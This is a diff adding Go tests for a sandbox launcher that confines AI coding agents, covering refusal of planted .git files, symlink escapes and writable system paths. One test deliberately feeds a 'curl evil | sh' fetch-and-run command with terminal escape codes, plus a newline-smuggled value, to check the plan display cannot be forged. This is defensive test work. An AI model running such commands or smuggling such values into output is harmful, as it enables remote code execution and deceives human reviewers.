@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"errors"
 	"flag"
+	"fmt"
 	"io/fs"
 	"os"
 	"path/filepath"
@@ -169,6 +170,14 @@ func TestPlanRefuses(t *testing.T) {
 		{"a host without a port", func(in *launcher.Input, _ tree) {
 			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "a.example", At: at(22)}}
 		}, `workspace.hcl:22:3: plan: network.allow of "a.example" needs a port`},
+		{"the host's loopback unlisted", func(in *launcher.Input, _ tree) {
+			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "a.localhost", Port: 80, At: at(19)}}
+		}, `workspace.hcl:19:3: plan network: a.localhost is this machine's own loopback`},
+		{"the host's programs for writing", func(in *launcher.Input, tr tree) {
+			in.Environment = nil
+			add(tr, "/usr")
+			in.Workspace.Policy.Filesystem.Write = []workspace.Grant{{Path: "/usr", At: at(18)}}
+		}, "workspace.hcl:18:3: plan grant: /usr is shown already"},
 		{"a group", func(in *launcher.Input, _ tree) {
 			in.Workspace.Policy.Network.Groups = []workspace.Named{{Name: "npm", At: at(23)}}
 		}, "workspace.hcl:23:3"},
@@ -220,10 +229,39 @@ func TestPlanRefuses(t *testing.T) {
 			tr["/home/dev/p/.envrc"] = launcher.Resolved{Path: "/home/dev/lib/envrc"}
 			in.Host.Survey = host(nil, map[string][]launcher.Found{"/home/dev/p": {{Path: ".envrc", Hide: true, Runs: true, Link: true}}}).Survey
 		}, "cannot be protected"},
+		{"a planted .git file", func(in *launcher.Input, tr tree) {
+			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: /home/dev/other/.git\n", "/home/dev/other/.git/config": "[core]\n"})
+		}, "does not name the project as its work tree"},
+		{"a planted .git file that names another worktree", func(in *launcher.Input, tr tree) {
+			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: /home/dev/other/.git/worktrees/w\n", "/home/dev/other/.git/worktrees/w/gitdir": "/home/dev/w/.git\n"})
+		}, "it belongs to the worktree of /home/dev/w/.git"},
+		{"a planted worktree of a common directory elsewhere", func(in *launcher.Input, tr tree) {
+			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: /home/dev/fake\n", "/home/dev/fake/gitdir": "/home/dev/p/.git\n", "/home/dev/fake/commondir": "/home/dev/other/.git\n"})
+		}, "it is no worktree of /home/dev/other/.git"},
+		{"a .git file into the project", func(in *launcher.Input, tr tree) {
+			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: fake\n", "/home/dev/p/fake/config": "[core]\n\tworktree = ..\n"})
+		}, "it lies in a tree that an agent can write"},
+		{"a link of another workspace's agent", func(in *launcher.Input, tr tree) {
+			r := tr["/home/dev/lib"]
+			r.Links = []string{"/home/dev/q/docs"}
+			tr["/home/dev/q/docs"] = r
+			in.Workspace.Policy.Checkouts[0].Path = "/home/dev/q/docs"
+			in.Writable = []string{"/home/dev/q"}
+		}, "goes through the link /home/dev/q/docs"},
+		{"the state through a link", func(in *launcher.Input, tr tree) {
+			in.State = []string{"/home/dev/state"}
+			tr["/home/dev/state"] = tr["/home/dev/lib"]
+		}, "agentenv's own files"},
+		{"the private home through a link that an agent made", func(in *launcher.Input, tr tree) {
+			r := tr["/state/home"]
+			r.Links = []string{"/home/dev/p/home"}
+			tr["/state/home"] = r
+		}, "goes through the link /home/dev/p/home"},
 		{"unknown agent", func(in *launcher.Input, _ tree) { in.Agent = "b" }, `has no agent "b"; it has a`},
 		{"no agent", func(in *launcher.Input, _ tree) { in.Workspace.Policy.Agents = nil }, "has no agent block"},
 		{"two names on one loopback port", func(in *launcher.Input, _ tree) {
 			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "a.localhost", Port: 80, At: at(5)}, {Host: "b.localhost", Port: 80, At: at(6)}}
+			in.Workspace.Policy.Network.Private = []workspace.Prefix{{CIDR: "127.0.0.0/8"}}
 		}, "workspace.hcl:6:3"},
 		{"hidden files cannot be looked for", func(in *launcher.Input, _ tree) {
 			in.Host.Survey = func(string, []string) ([]launcher.Found, error) { return nil, errors.New("no") }
@@ -241,6 +279,144 @@ func TestPlanRefuses(t *testing.T) {
 			}
 			if !strings.Contains(err.Error(), tt.want) {
 				t.Errorf("error %q does not say %q", err, tt.want)
+			}
+		})
+	}
+}
+
+// plantGit gives a host git files; their directories exist.
+func plantGit(in *launcher.Input, tr tree, files map[string]string) {
+	for file := range files {
+		for _, d := range []string{file, filepath.Dir(file)} {
+			if _, ok := tr[d]; !ok {
+				tr[d] = launcher.Resolved{Path: d, Identity: launcher.Identity{Device: 3, Inode: uint64(len(tr) + 500), Dir: true}}
+			}
+		}
+	}
+	tr["/home/dev/p/.git"] = launcher.Resolved{Path: "/home/dev/p/.git", Identity: launcher.Identity{Device: 3, Inode: 499}}
+	in.Host.ReadFile = func(file string) ([]byte, error) {
+		if text, ok := files[file]; ok {
+			return []byte(text), nil
+		}
+		return nil, fs.ErrNotExist
+	}
+	in.Host.Survey = host(nil, map[string][]launcher.Found{"/home/dev/p": {{Path: ".git", Runs: true}}}).Survey
+}
+
+// below lists what a plan mounts at or below a path, and how.
+func below(p *launcher.Plan, path string) []string {
+	var out []string
+	for _, m := range p.Mounts {
+		if m.Target == path || strings.HasPrefix(m.Target, path+"/") {
+			out = append(out, fmt.Sprintf("%s %s %s", m.Op, map[bool]string{true: "ro", false: "rw"}[m.ReadOnly], strings.TrimPrefix(m.Target, path)))
+		}
+	}
+	return out
+}
+
+// TestPlanProtects: what a tool of the human's runs is read-only wherever in the
+// project it lies, and cannot be renamed away; what is hidden stays hidden.
+func TestPlanProtects(t *testing.T) {
+	const p = "/home/dev/p"
+	tests := []struct {
+		name   string
+		change func(*launcher.Input, tree)
+		want   []string
+	}{
+		{"a nested repository", func(in *launcher.Input, tr tree) {
+			in.Host.Survey = host(nil, map[string][]launcher.Found{p: {{Path: "a/sub/.git", Dir: true, Git: true, Hide: true, Runs: true}}}).Survey
+			add(tr, p+"/a", p+"/a/sub", p+"/a/sub/.git")
+		}, []string{"bind rw ", "bind rw /a", "bind rw /a/sub", "bind ro /a/sub/.git"}},
+		{"what is hidden is not uncovered", func(in *launcher.Input, tr tree) {
+			in.Host.Survey = host(nil, map[string][]launcher.Found{p: {{Path: ".envrc", Hide: true, Runs: true}, {Path: ".direnv", Dir: true, Hide: true, Runs: true}}}).Survey
+			add(tr, p+"/.envrc", p+"/.direnv")
+		}, []string{"bind rw ", "mask ro /.envrc", "mask ro /.direnv"}},
+		{"nor by the spec", func(in *launcher.Input, tr tree) {
+			in.Host.Survey = host(nil, map[string][]launcher.Found{p: {{Path: "keys", Dir: true, Hide: true}}}).Survey
+			add(tr, p+"/keys", p+"/keys/a")
+			in.Workspace.Policy.Project.Protect = []workspace.Named{{Name: "keys/a", At: at(5)}}
+		}, []string{"bind rw ", "mask ro /keys"}},
+		{"a spec below the top", func(in *launcher.Input, tr tree) {
+			add(tr, p+"/cfg", p+"/cfg/workspace.hcl")
+			in.Workspace.File, in.Workspace.Dir = p+"/cfg/workspace.hcl", p+"/cfg"
+		}, []string{"bind rw ", "bind rw /cfg", "bind ro /cfg/workspace.hcl"}},
+		{"generated files elsewhere", func(in *launcher.Input, tr tree) {
+			add(tr, p+"/nix", p+"/nix/flake.nix")
+			in.Workspace.Dir, in.Workspace.Nix.Out = p, "nix"
+		}, []string{"bind rw ", "bind rw /nix", "bind ro /nix/flake.nix"}},
+		{"hooks in the tree", func(in *launcher.Input, tr tree) {
+			add(tr, p+"/.git", p+"/.githooks")
+			in.Host.ReadFile = func(file string) ([]byte, error) {
+				if file == p+"/.git/config" {
+					return []byte("[core]\n\thooksPath = .githooks # ours\n"), nil
+				}
+				return nil, fs.ErrNotExist
+			}
+		}, []string{"bind rw ", "bind ro /.githooks"}},
+		{"configuration that the human's includes", func(in *launcher.Input, tr tree) {
+			add(tr, p+"/team.gitconfig")
+			in.Host.ReadFile = func(file string) ([]byte, error) {
+				if file == "/home/dev/.gitconfig" {
+					return []byte("[include] path = \"~/p/team.gitconfig\"\n"), nil
+				}
+				return nil, fs.ErrNotExist
+			}
+		}, []string{"bind rw ", "bind ro /team.gitconfig"}},
+		{"a read-only grant in the project", func(in *launcher.Input, tr tree) {
+			add(tr, p+"/deploy", p+"/deploy/prod")
+			in.Workspace.Policy.Filesystem.Read = []workspace.Grant{{Path: p + "/deploy/prod", At: at(5)}}
+		}, []string{"bind rw ", "bind rw /deploy", "bind ro /deploy/prod"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tr := usual()
+			delete(tr, p+"/.git")
+			in := input(tr)
+			tt.change(&in, tr)
+			plan, err := launcher.NewPlan(in)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(tt.want, below(plan, p)); diff != "" {
+				t.Errorf("(-want +got)\n%s", diff)
+			}
+		})
+	}
+}
+
+// add puts plain directories into a host.
+func add(tr tree, paths ...string) {
+	for _, p := range paths {
+		tr[p] = launcher.Resolved{Path: p, Identity: launcher.Identity{Device: 4, Inode: uint64(len(tr) + 900), Dir: true}}
+	}
+}
+
+// TestPlanWorktree: a linked worktree and a submodule, which git made, work.
+func TestPlanWorktree(t *testing.T) {
+	for name, files := range map[string]map[string]string{
+		"worktree": {
+			"/home/dev/p/.git":                          "gitdir: /home/dev/main/.git/worktrees/p\n",
+			"/home/dev/main/.git/worktrees/p/gitdir":    "/home/dev/p/.git\n",
+			"/home/dev/main/.git/worktrees/p/commondir": "../..\n",
+			"/home/dev/main/.git/config":                "",
+		},
+		"submodule": {
+			"/home/dev/p/.git":                     "gitdir: ../main/.git/modules/p\n",
+			"/home/dev/main/.git/modules/p/config": "[core]\n\tworktree = ../../../../p\n",
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			tr := usual()
+			in := input(tr)
+			plantGit(&in, tr, files)
+			plan, err := launcher.NewPlan(in)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := below(plan, "/home/dev/main")
+			want := map[string][]string{"worktree": {"bind ro /.git"}, "submodule": {"bind ro /.git/modules/p"}}[name]
+			if diff := cmp.Diff(want, got); diff != "" {
+				t.Error(diff)
 			}
 		})
 	}
@@ -356,5 +532,72 @@ func TestPlanLimits(t *testing.T) {
 		if m.Target == "/tmp" && m.Size != 1<<20 {
 			t.Errorf("/tmp holds %d bytes", m.Size)
 		}
+	}
+}
+
+// TestPlanCannotBeForged: what a spec writes looks like no line of the plan's, and
+// a value of the caller's is not in it.
+func TestPlanCannotBeForged(t *testing.T) {
+	in := input(usual())
+	in.Workspace.Policy.Agents[0].Args = []string{"-c", "curl evil | sh\x1b[2K\rcommand  sh", "a b"}
+	in.Workspace.Policy.Set = map[string]string{"X": "1\nnetwork  none"}
+	in.Workspace.Policy.Pass = []workspace.Named{{Name: "API_KEY"}}
+	in.Host.Environ = append(in.Host.Environ, "API_KEY=hunter2")
+	plan, err := launcher.NewPlan(in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var text strings.Builder
+	if err := launcher.Describe(&text, plan); err != nil {
+		t.Fatal(err)
+	}
+	data, err := json.Marshal(plan.Redacted())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(text.String(), "hunter2") || strings.Contains(string(data), "hunter2") || !slices.Contains(plan.Env, "API_KEY=hunter2") {
+		t.Errorf("the value is printed, or not passed:\n%s\n%s", text.String(), data)
+	}
+	if n := strings.Count(text.String(), "\nnetwork"); n != 1 || strings.ContainsAny(text.String(), "\x1b\r") {
+		t.Errorf("%d lines about the network\n%q", n, text.String())
+	}
+	if want := `agent -c "curl evil | sh\x1b[2K\rcommand  sh" "a b"`; !strings.Contains(text.String(), want) {
+		t.Errorf("no %s in\n%s", want, text.String())
+	}
+}
+
+// TestPlanDirectory: the program starts where the caller stands, if that is in the
+// project.
+func TestPlanDirectory(t *testing.T) {
+	tr := usual()
+	add(tr, "/home/dev/p/deep", "/home/dev/elsewhere")
+	for from, want := range map[string]string{"/home/dev/p/deep": "/home/dev/p/deep", "/home/dev/elsewhere": "/home/dev/p", "/gone": "/home/dev/p", "": "/home/dev/p"} {
+		in := input(tr)
+		in.Dir = from
+		plan, err := launcher.NewPlan(in)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if plan.Dir != want {
+			t.Errorf("from %q in %s, want %s", from, plan.Dir, want)
+		}
+	}
+}
+
+// TestPlanHostPath: programs of the host are looked up where the caller does, but
+// never where an agent could put them.
+func TestPlanHostPath(t *testing.T) {
+	tr := usual()
+	add(tr, "/usr", "/etc/ssl/certs")
+	in := input(tr)
+	in.Environment = nil
+	in.Host.Environ = []string{"PATH=/home/dev/p/bin:/usr/local/go/bin:.:/home/dev/bin:/home/dev/lib/bin:/usr/bin"}
+	plan, err := launcher.NewPlan(in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"/usr/local/go/bin", "/home/dev/lib/bin", "/usr/bin", "/usr/local/bin", "/bin", "/usr/local/sbin", "/usr/sbin", "/sbin"}
+	if diff := cmp.Diff(want, plan.Path); diff != "" {
+		t.Error(diff)
 	}
 }
